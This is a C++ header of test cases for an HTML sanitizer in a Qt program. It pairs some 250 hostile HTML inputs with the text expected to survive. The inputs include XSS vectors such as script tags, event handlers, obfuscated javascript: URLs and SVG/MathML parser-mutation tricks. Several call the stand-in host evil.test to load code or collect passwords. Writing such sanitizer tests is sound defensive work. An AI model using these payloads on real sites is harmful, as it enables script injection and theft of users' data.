// Ways to run, load or fake something from within text, for everything that takes text of strangers: what is known of
// browsers' history, told in cases of our own.
#pragma once

#include <QString>

#include <vector>

namespace lotse::html
{

struct HtmlAttack {
    const char* name;
    QString html;
    QString words; // that remain, without line ends; empty: whatever they are
};

inline std::vector<HtmlAttack> htmlAttacks()
{
    using namespace Qt::Literals::StringLiterals;
    std::vector<HtmlAttack> all;
    const auto attack = [&all](const char* name, const QString& html, const QString& words = {}) {
        all.push_back({.name = name, .html = html, .words = words});
    };
    attack("script", u"a<script>steal()</script>b"_qs, u"ab"_qs);
    attack("script unclosed", u"a<script>steal()"_qs, u"a"_qs);
    attack("script in script", u"<scr<script>ipt>steal()</script>b"_qs, u"ipt>steal()b"_qs);
    attack("script with slash", u"<script/x src=//evil.test/s.js></script>b"_qs, u"b"_qs);
    attack("script doubled angle", u"<<script>steal();//<</script>b"_qs, u"<b"_qs);
    attack("comment ends early", u"<!--><img src=x onerror=steal()>-->b"_qs, u"▣-->b"_qs);
    attack("comment in comment", u"<!-- <!-- --> <b onclick=x>b</b> -->"_qs, u"b -->"_qs);
    attack("conditional comment", u"<!--[if gte IE 4]><script>steal()</script><![endif]-->b"_qs, u"b"_qs);
    attack("cdata", u"<![CDATA[<script>steal()</script>]]>b"_qs, u"steal()]]>b"_qs);
    attack("attribute broken out",
           u"<a href=\"https://a.test/\"onclick=\"steal()\" title='\"><script>steal()</script>'>b</a>"_qs, u"b"_qs);
    attack("attribute without quotes", u"<p title=`><script>steal()</script>`>b"_qs, u"`>b"_qs);
    attack("handler with slash", u"<b/onmouseover=steal()>b</b>"_qs, u"b"_qs);
    attack("handler with form feed", u"<b\fonclick=steal()>b</b>"_qs, u"b"_qs);
    attack("javascript", u"<a href=javascript:steal()>b</a>"_qs, u"b"_qs);
    attack("javascript mixed case", u"<a href=JaVaScRiPt:steal()>b</a>"_qs, u"b"_qs);
    attack("javascript tab", u"<a href='java\tscript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript entity tab", u"<a href='jav&#x09;ascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript newline", u"<a href='jav&#10;ascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript named entities", u"<a href='javascript&colon;steal&lpar;&rpar;'>b</a>"_qs, u"b"_qs);
    attack("javascript decimal", u"<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;x>b</a>"_qs,
           u"b"_qs);
    attack("javascript leading control", u"<a href=' &#14; javascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript null", u"<a href='java"_qs + QChar(u'\0') + u"script:steal()'>b</a>"_qs, u"b"_qs);
    attack("vbscript", u"<a href=vbscript:msgbox(1)>b</a>"_qs, u"b"_qs);
    attack("data", u"<a href='data:text/html;base64,PHNjcmlwdD4='>b</a>"_qs, u"b"_qs);
    attack("file", u"<a href='file:///etc/passwd'>b</a>"_qs, u"b"_qs);
    attack("own scheme", u"<a href='ms-msdt:/id x'>b</a>"_qs, u"b"_qs);
    attack("share", u"<a href='\\\\evil.test\\share'>b</a>"_qs, u"b"_qs);
    attack("relative", u"<a href='//evil.test/x'>b</a><a href=/x>c</a>"_qs, u"bc"_qs);
    attack("image handler", u"<img src=x onerror=steal()>b"_qs, u"▣b"_qs);
    attack("image script source", u"<img src=javascript:steal() alt=A>b"_qs, u"▣ Ab"_qs);
    attack("image old name", u"<image src=x onerror=steal()>b"_qs, u"▣b"_qs);
    attack("image alternative", u"<img alt='<script>steal()</script>'>"_qs, u"▣ <script>steal()</script>"_qs);
    attack("svg", u"<svg onload=steal()><script>steal()</script><text>t</text></svg>b"_qs, u"b"_qs);
    attack("svg breaks out", u"<svg><p><style><img src=x onerror=steal()></style>b"_qs, u"b"_qs);
    attack("svg animate", u"<svg><a><animate attributeName=href values=javascript:x /><text>c</text></a></svg>b"_qs,
           u"b"_qs);
    attack("math", u"<math><mtext><table><mglyph><style><img src=x onerror=steal()></style>b</math>"_qs);
    attack("math link", u"<math href=javascript:steal()>c</math>b"_qs, u"b"_qs);
    attack("template", u"<template><script>steal()</script><p onclick=x>c</template>b"_qs, u"b"_qs);
    attack("noscript", u"<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>b"_qs);
    attack("style", u"<style>@import 'https://evil.test/x.css';</style>b"_qs, u"b"_qs);
    attack("style expression", u"<p style='width:expression(steal());background:url(https://evil.test/t)'>b"_qs,
           u"b"_qs);
    attack("link element", u"<link rel=stylesheet href=https://evil.test/x.css>b"_qs, u"b"_qs);
    attack("base", u"<base href='https://evil.test/'><a href='x'>b</a>"_qs, u"b"_qs);
    attack(
        "form",
        u"<form action=https://evil.test><input name=p type=password value=v><button formaction=javascript:x>b</button></form>"_qs,
        u"b"_qs);
    attack("iframe", u"<iframe src=https://evil.test srcdoc='<script>x</script>'>c</iframe>b"_qs, u"b"_qs);
    attack("frameset", u"<frameset><frame src=javascript:steal()></frameset>"_qs);
    attack("object", u"<object data=https://evil.test/x.swf><param name=a value=b>c</object><embed src=x>b"_qs,
           u"b"_qs);
    attack("meta refresh", u"<meta http-equiv=refresh content='0;url=javascript:steal()'>b"_qs, u"b"_qs);
    attack("media", u"<video poster=javascript:x onerror=x><source onerror=steal()></video><audio src=x>c</audio>b"_qs,
           u"b"_qs);
    attack("title ends", u"<title><p id='</title><script>steal()</script>'></title>b"_qs);
    attack("text area ends", u"<textarea></textarea><script>steal()</script>b"_qs, u"b"_qs);
    attack("body handler", u"<body onload=steal() background=https://evil.test/t>b"_qs, u"b"_qs);
    attack("nul in tag", u"<scr"_qs + QChar(u'\0') + u"ipt>steal()</script>b"_qs, u"steal()b"_qs);
    attack("tag unclosed", u"b<img src=x onerror=steal() "_qs, u"b"_qs);
    attack("end tag with attribute", u"a</p onclick=steal()>b"_qs);
    attack("processing instruction", u"<?xml version='1.0'?><?php steal() ?>b"_qs, u"b"_qs);
    attack("doctype", u"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>b&e;"_qs);
    attack("marquee", u"<marquee onstart=steal()>b</marquee>"_qs, u"b"_qs);
    attack("details", u"<details open ontoggle=steal()>b</details>"_qs, u"b"_qs);
    attack("is index", u"<isindex action=javascript:steal() type=image>"_qs);
    attack("plaintext", u"<plaintext><script>steal()</script>"_qs, u"<script>steal()</script>"_qs);

    // Handlers, however they are written.
    attack("handler upper case", u"<P ONCLICK=steal()>b</P>"_qs, u"b"_qs);
    attack("handler in every quote", u"<p onclick='steal()' onfocus=\"steal()\" onblur=`steal()`>b</p>"_qs, u"b"_qs);
    attack("handler after a null", u"<b"_qs + QChar(u'\0') + u" onclick=steal()>b</b>"_qs, u"b"_qs);
    attack("handler with spaces", u"<b onclick = steal()>b</b>"_qs, u"b"_qs);
    attack("handler with vertical tab", u"<b\vonclick=steal()>b</b>"_qs);
    attack("handler of entities", u"<b onclick='&#115;teal()'>b</b>"_qs, u"b"_qs);
    attack("handler with colon", u"<b xlink:onclick=steal() on:click=steal()>b</b>"_qs, u"b"_qs);
    attack("focus by itself", u"<input autofocus onfocus=steal()><keygen autofocus onfocus=steal()>b"_qs, u"b"_qs);
    attack("animation", u"<p style='animation-name:x' onanimationstart=steal()>b</p>"_qs, u"b"_qs);
    attack("pointer", u"<a onpointerrawupdate=steal() href='https://a.test/'>b</a>"_qs, u"b"_qs);
    attack("clipboard", u"<p contenteditable oncopy=steal() onpaste=steal()>b</p>"_qs, u"b"_qs);
    attack("unknown element with handler", u"<x-y onclick=steal() tabindex=1>b</x-y>"_qs, u"b"_qs);
    attack("handler on end of body", u"</body onload=steal()>b</html onload=steal()>c"_qs, u"bc"_qs);
    attack("attribute doubled", u"<a href='https://a.test/' href='javascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("attribute doubled the other way", u"<a href='javascript:steal()' href='https://a.test/'>b</a>"_qs, u"b"_qs);
    attack("attribute with angle", u"<a title='>' onclick=steal()>b</a>"_qs, u"b"_qs);
    attack("attribute with entities of quotes", u"<a title='&quot; onclick=steal() x=&quot;'>b</a>"_qs, u"b"_qs);
    attack("attribute without value", u"<a href onclick>b</a>"_qs, u"b"_qs);
    attack("attribute name is a quote", u"<p \"onclick=steal()>b</p>"_qs, u"b"_qs);

    // Addresses that run.
    attack("javascript leading spaces", u"<a href='   javascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript leading entities", u"<a href='&#1;&#2;javascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript hexadecimal without semicolons",
           u"<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;x'>b</a>"_qs, u"b"_qs);
    attack("javascript long decimals", u"<a href='&#0000106&#0000097vascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript carriage return", u"<a href='java&#13;script:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript named tab and newline", u"<a href='java&Tab;scr&NewLine;ipt:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript soft hyphen", u"<a href='java&shy;script:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript zero width", u"<a href='java&#x200B;script:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript wide letters", u"<a href='\uFF4Aavascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript percent", u"<a href='java%73cript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript slashes", u"<a href='javascript://a.test/%0Asteal()'>b</a>"_qs, u"b"_qs);
    attack("javascript twice", u"<a href='javascript:javascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript after a feed", u"<a href='feed:javascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript behind view-source", u"<a href='view-source:javascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("javascript in an area", u"<map><area href=javascript:steal() shape=default></map>b"_qs, u"b"_qs);
    attack("jscript", u"<a href='JScript.Encode:steal()'>b</a>"_qs, u"b"_qs);
    attack("livescript", u"<a href='livescript:steal()'>b</a>"_qs, u"b"_qs);
    attack("mocha", u"<a href='mocha:steal()'>b</a>"_qs, u"b"_qs);
    attack("data without type", u"<a href='data:,steal()'>b</a>"_qs, u"b"_qs);
    attack("data svg", u"<a href='data:image/svg+xml,<svg onload=steal()>'>b</a>"_qs, u"b"_qs);
    attack("data spaced", u"<a href=' d a t a:text/html,x'>b</a>"_qs, u"b"_qs);
    attack("blob", u"<a href='blob:https://a.test/x'>b</a>"_qs, u"b"_qs);
    attack("file system", u"<a href='filesystem:https://a.test/x'>b</a>"_qs, u"b"_qs);
    attack("archive", u"<a href='jar:https://a.test/x!/y'>b</a>"_qs, u"b"_qs);
    attack("about", u"<a href='about:blank'>b</a>"_qs, u"b"_qs);
    attack("telephone", u"<a href='tel:+1900'>b</a><a href='sms:1'>c</a>"_qs, u"bc"_qs);
    attack("remote desktop", u"<a href='rdp://steal'>b</a><a href='ssh://-oProxyCommand=x'>c</a>"_qs, u"bc"_qs);
    attack("search", u"<a href='search-ms:query=x&crumb=location:\\\\steal'>b</a>"_qs, u"b"_qs);
    attack("backslashes for slashes", u"<a href='\\/\\/steal.test'>b</a>"_qs, u"b"_qs);
    attack("own anchors", u"<a href='lotse-fold:0/0'>b</a><a href='lotse-more:0/0'>c</a>"_qs, u"bc"_qs);
    attack("own scheme of the program", u"<a href='lotse://open'>b</a>"_qs, u"b"_qs);
    attack("resource of the program", u"<a href='qrc:/x'>b</a><img src='qrc:/x'>"_qs, u"b▣"_qs);
    attack("mail with headers", u"<a href='mailto:a@b.test%0D%0ABcc:c@d.test'>b</a>"_qs, u"b"_qs);
    attack("mail with an attachment", u"<a href='mailto:a@b.test?attach=/etc/passwd&attachment=x'>b</a>"_qs, u"b"_qs);
    attack("mail to many", u"<a href='mailto:a@b.test,c@d.test'>b</a>"_qs, u"b"_qs);
    attack("link without host", u"<a href='https:///x'>b</a><a href='http:x'>c</a>"_qs, u"bc"_qs);
    attack("link of one scheme in another", u"<a href='https:javascript:steal()'>b</a>"_qs, u"b"_qs);
    attack("port out of range", u"<a href='https://a.test:99999999/'>b</a>"_qs, u"b"_qs);

    // Other languages inside of HTML.
    attack("svg in capitals", u"<SVG ONLOAD=steal()></SVG>b"_qs, u"b"_qs);
    attack("svg script with entities", u"<svg><script>&#115;teal()</script></svg>b"_qs, u"b"_qs);
    attack("svg script address", u"<svg><script href=data:,steal()></script></svg>b"_qs, u"b"_qs);
    attack("svg use", u"<svg><use href='data:image/svg+xml,<svg id=x onload=steal()>#x'/></svg>b"_qs, u"b"_qs);
    attack("svg image", u"<svg><image href=javascript:steal() onerror=steal()></image></svg>b"_qs, u"b"_qs);
    attack("svg set", u"<svg><set attributeName=onmouseover to=steal()></svg>b"_qs, u"b"_qs);
    attack("svg handler element", u"<svg><handler type=application/ecmascript>steal()</handler></svg>b"_qs, u"b"_qs);
    attack("svg foreign object", u"<svg><foreignObject><iframe onload=steal()></iframe></foreignObject></svg>b"_qs);
    attack("svg foreign object with words", u"<svg><foreignobject><b onclick=steal()>c</b></foreignobject></svg>b"_qs);
    attack("svg description", u"<svg><desc><img src=x onerror=steal()></desc></svg>b"_qs);
    attack("svg title", u"<svg><title><style><img src=x onerror=steal()></style></title></svg>b"_qs);
    attack("svg style closes", u"<svg><style></style><img src=x onerror=steal()></svg>b"_qs);
    attack("svg with cdata", u"<svg><![CDATA[><img src=x onerror=steal()>]]></svg>b"_qs, u"b"_qs);
    attack("svg comment in style", u"<svg></p><style><!--</style><img src=x onerror=steal()>-->b"_qs);
    attack("math action",
           u"<math><maction actiontype=statusline#x xlink:href=javascript:steal()>c</maction></math>b"_qs, u"b"_qs);
    attack("math annotation",
           u"<math><annotation-xml encoding=text/html><b onclick=steal()>c</b></annotation-xml></math>b"_qs);
    attack("math and style", u"<math><style><a title='</style><img src=x onerror=steal()>'></style></math>b"_qs);
    attack("form in math in form",
           u"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=steal()>"_qs);
    attack("math table style",
           u"<math><mi><table><mi><style></mi><img src=x onerror=steal()></style></mi></table></mi></math>"_qs);
    attack("processing instruction in svg", u"<svg><?xml-stylesheet href=javascript:steal()?></svg>b"_qs, u"b"_qs);
    attack("namespace of old", u"<html xmlns:x><x:script>steal()</x:script>b"_qs, u"steal()b"_qs);
    attack("xml island", u"<xml id=x><a><b>&lt;script>steal()&lt;/script></b></a></xml>"_qs);

    // Styles.
    attack("style url", u"<p style=\"background-image:url('javascript:steal()')\">b"_qs, u"b"_qs);
    attack("style binding", u"<p style='-moz-binding:url(https://evil.test/x#y)'>b"_qs, u"b"_qs);
    attack("style behaviour", u"<p style='behavior:url(#default#time2)'>b"_qs, u"b"_qs);
    attack("style escapes", u"<p style='w\\69 dth:e\\78pression(steal())'>b"_qs, u"b"_qs);
    attack("style comments", u"<p style='width:exp/**/ression(steal())'>b"_qs, u"b"_qs);
    attack("style over everything", u"<p style='position:fixed;inset:0;z-index:9999'>b"_qs, u"b"_qs);
    attack("style closes early", u"<style>a{content:'</style><img src=x onerror=steal()>'}</style>b"_qs);
    attack("style in style", u"<style><style>a{}</style>b"_qs, u"b"_qs);
    attack("style unclosed", u"b<style>a{background:url(https://evil.test/x)}"_qs, u"b"_qs);
    attack("class and id", u"<p class='lotse' id='conversation' name=x>b</p>"_qs, u"b"_qs);
    attack("old colours", u"<font color=white size=7 face='x'>b</font><body text=white bgcolor=white>c"_qs, u"bc"_qs);
    attack("layer", u"<layer src=https://evil.test>b</layer><ilayer src=https://evil.test>c</ilayer>"_qs, u"bc"_qs);
    attack("background sound", u"<bgsound src=https://evil.test/x>b"_qs, u"b"_qs);

    // What goes elsewhere or asks for something.
    attack("refresh in the body", u"b<meta http-equiv=refresh content='0;https://evil.test'>"_qs, u"b"_qs);
    attack("refresh in a comment", u"<!-->-<meta http-equiv=refresh content=0>--!>b"_qs);
    attack("policy", u"<meta http-equiv=content-security-policy content=x><meta charset=utf-7>b"_qs, u"b"_qs);
    attack("utf-7", u"+ADw-script+AD4-steal()+ADw-/script+AD4-"_qs, u"+ADw-script+AD4-steal()+ADw-/script+AD4-"_qs);
    attack("base of javascript", u"<base href='javascript:steal()//'><a href='x'>b</a>"_qs, u"b"_qs);
    attack("base unclosed", u"<base target='b<a href=https://a.test/>c</a>"_qs);
    attack("preload",
           u"<link rel=preload as=image href=https://evil.test/x><link rel=dns-prefetch href=//evil.test>b"_qs,
           u"b"_qs);
    attack("manifest", u"<html manifest=https://evil.test/x><body>b"_qs, u"b"_qs);
    attack("import", u"<link rel=import href=data:,x>b"_qs, u"b"_qs);
    attack("ping", u"<a ping=https://evil.test/p href='https://a.test/'>b</a>"_qs, u"b"_qs);
    attack("download", u"<a download='x.exe' href='data:,x'>b</a>"_qs, u"b"_qs);
    attack("target", u"<a target=_top rel=opener href='https://a.test/'>b</a>"_qs, u"b"_qs);
    attack("password form",
           u"<form action=//evil.test method=post>Passwort: <input type=password><input type=submit></form>"_qs,
           u"Passwort:"_qs);
    attack("form by reference", u"<form id=x></form><button form=x formaction=javascript:steal()>b</button>"_qs,
           u"b"_qs);
    attack("data list", u"<input list=x><datalist id=x><option label=steal() value=v></datalist>b"_qs);
    attack("dialogue", u"<dialog open>b</dialog><menuitem icon=javascript:steal()>"_qs);
    attack("meter", u"<meter onmouseover=steal() value=1>b</meter><progress onclick=steal()></progress>"_qs, u"b"_qs);
    attack("applet", u"<applet code=x.class archive=https://evil.test/x.jar>c</applet>b"_qs, u"b"_qs);
    attack("embed", u"<embed src=javascript:steal() allowscriptaccess=always>b"_qs, u"b"_qs);
    attack("object in object", u"<object data=x><object data=javascript:steal()>c</object></object>b"_qs, u"b"_qs);
    attack("frame from data", u"<iframe src='data:text/html,<script>steal()</script>'></iframe>b"_qs, u"b"_qs);
    attack("frame from words", u"<iframe srcdoc='&lt;script>steal()&lt;/script>'></iframe>b"_qs, u"b"_qs);
    attack("frame sandboxed", u"<iframe sandbox='allow-scripts' src=x></iframe>b"_qs, u"b"_qs);
    attack("frame ends early", u"<iframe><img title='</iframe><img src=x onerror=steal()>'></iframe>b"_qs);
    attack("portal element", u"<portal src=https://evil.test></portal>b"_qs, u"b"_qs);
    attack("track", u"<video><track src=https://evil.test default oncuechange=steal()></video>b"_qs, u"b"_qs);
    attack("picture", u"<picture><source srcset=https://evil.test/x><img src=x onerror=steal()></picture>b"_qs,
           u"▣b"_qs);
    attack("image set",
           u"<img srcset='https://evil.test/x 2x' src=x lowsrc=https://evil.test dynsrc=https://evil.test>b"_qs,
           u"▣b"_qs);
    attack("image map", u"<img src=x usemap=#m ismap longdesc=javascript:steal()>b"_qs, u"▣b"_qs);
    attack("image from a file", u"<img src='file:///etc/passwd'>b"_qs, u"▣b"_qs);
    attack("image from a share", u"<img src='\\\\evil.test\\x'>b"_qs, u"▣b"_qs);
    attack("image of svg", u"<img src='data:image/svg+xml,<svg onload=steal()>'>b"_qs, u"▣b"_qs);
    attack("input image", u"<input type=image src=https://evil.test/x onerror=steal()>b"_qs, u"b"_qs);
    attack("table background",
           u"<table background=https://evil.test/x><tr><td background=javascript:steal()>b</table>"_qs, u"b"_qs);
    attack("quote with a source", u"<blockquote cite=javascript:steal()>b</blockquote><q cite=javascript:x>c</q>"_qs,
           u"bc"_qs);

    // Nesting that parsers repair differently.
    attack("link in link", u"<a href='https://a.test/'>b<a href='javascript:steal()'>c</a>d</a>"_qs, u"bcd"_qs);
    attack("link over blocks", u"<a href='javascript:steal()'><div>b<p>c</div>d</a>"_qs, u"bcd"_qs);
    attack("table in link in table", u"<table><a href='javascript:steal()'><tr><td>b</a></table>"_qs, u"b"_qs);
    attack("paragraph in heading", u"<h1><p>b<h2>c</h1>d</h2>"_qs, u"bcd"_qs);
    attack("cells without a table", u"<td>b</td><tr><th>c"_qs, u"bc"_qs);
    attack("list items without a list", u"<li>b<li>c</ul>"_qs, u"bc"_qs);
    attack("select breaks out", u"<select><style></select><img src=x onerror=steal()></style></select>"_qs);
    attack("select with options", u"<select><option>c<script>steal()</script></select>b"_qs, u"b"_qs);
    attack("no script in a link", u"<a><noscript><a href='</noscript><img src=x onerror=steal()>'></a>b"_qs);
    attack("no frames", u"<noframes><p title='</noframes><script>steal()</script>'></noframes>b"_qs);
    attack("no embed", u"<noembed><img title='</noembed><img src=x onerror=steal()>'></noembed>b"_qs);
    attack("example of old", u"<xmp><p title='</xmp><img src=x onerror=steal()>'></xmp>b"_qs);
    attack("listing", u"<listing>&lt;img src=x onerror=steal()&gt;</listing>"_qs, u"<img src=x onerror=steal()>"_qs);
    attack("listing with line", u"<pre>\n\n<b>b</b></pre>"_qs, u"b"_qs);
    attack("text area with tags", u"<textarea><img src=x onerror=steal()></textarea>b"_qs,
           u"<img src=x onerror=steal()>b"_qs);
    attack("title in the body", u"b<title>&lt;script>steal()&lt;/script></title>c"_qs, u"bc"_qs);
    attack("template in a table", u"<table><template><tr><td onclick=steal()>c</template><tr><td>b</table>"_qs,
           u"b"_qs);
    attack("shadow root", u"<p><template shadowrootmode=open><script>steal()</script></template>b</p>"_qs, u"b"_qs);
    attack("slot", u"<slot onslotchange=steal()>b</slot>"_qs, u"b"_qs);
    attack("ruby", u"<ruby>b<rt onclick=steal()>c<rp>(</ruby>"_qs, u"bc("_qs);
    attack("unfinished end tag", u"b</p/onclick=steal()>c</"_qs, u"bc</"_qs);
    attack("unfinished comment", u"b<!-- <img src=x onerror=steal()>"_qs, u"b"_qs);
    attack("comment of dashes", u"<!----!><img src=x onerror=steal()>-->b"_qs, u"▣-->b"_qs);
    attack("comment with entities", u"<!--&#45;&#45;&gt;<script>steal()</script>-->b"_qs, u"b"_qs);
    attack("declaration", u"<!ELEMENT p (x)><!ATTLIST p onclick CDATA 'steal()'>b"_qs, u"b"_qs);
    attack("percent tag", u"<%<!--'%><script>steal()</script>-->"_qs);
    attack("question tag", u"<? foo='><script>steal()</script>'>b"_qs);
    attack("slash tag", u"</ foo='><script>steal()</script>'>b"_qs);
    attack("tag in angle brackets", u"<<b>b</b>>"_qs, u"<b>"_qs);
    attack("entities twice", u"&amp;lt;script&amp;gt;steal()"_qs, u"&lt;script&gt;steal()"_qs);
    attack("entities of a tag", u"&lt;script&gt;steal()&lt;/script&gt;"_qs, u"<script>steal()</script>"_qs);
    attack("entities without semicolons", u"&ltscript&gtsteal()&lt/script&gt"_qs, u"<script>steal()</script>"_qs);
    attack("entities of numbers too large", u"&#x110000;&#99999999999;b"_qs);
    attack("entities of surrogates", u"&#xD800;&#xDFFF;b"_qs);
    attack("entities of controls", u"&#0;&#1;&#x85;b"_qs);
    attack("brackets of another script", u"\uFF1Cscript\uFF1Esteal()\uFF1C/script\uFF1E"_qs,
           u"\uFF1Cscript\uFF1Esteal()\uFF1C/script\uFF1E"_qs);
    attack("frame of the text engine", QString(QChar(0xFDD0)) + u"b"_qs + QChar(0xFDD1) + QChar(0xFFFC));
    attack("many handlers", u"<p"_qs + u" onclick=steal()"_qs.repeated(5000) + u">b"_qs, u"b"_qs);
    attack("huge attribute", u"<p title='"_qs + u"x"_qs.repeated(2'000'000) + u"' onclick=steal()>b"_qs, u"b"_qs);
    attack("huge name", u"<"_qs + u"x"_qs.repeated(200'000) + u" onclick=steal()>b"_qs, u"b"_qs);
    attack("deep nesting", u"<div><b><blockquote>"_qs.repeated(700) + u"b"_qs, u"b"_qs);
    attack("deep in math", u"<math>"_qs + u"<mrow>"_qs.repeated(2000) + u"<mtext><b onclick=steal()>c"_qs);
    return all;
}

} // namespace lotse::html
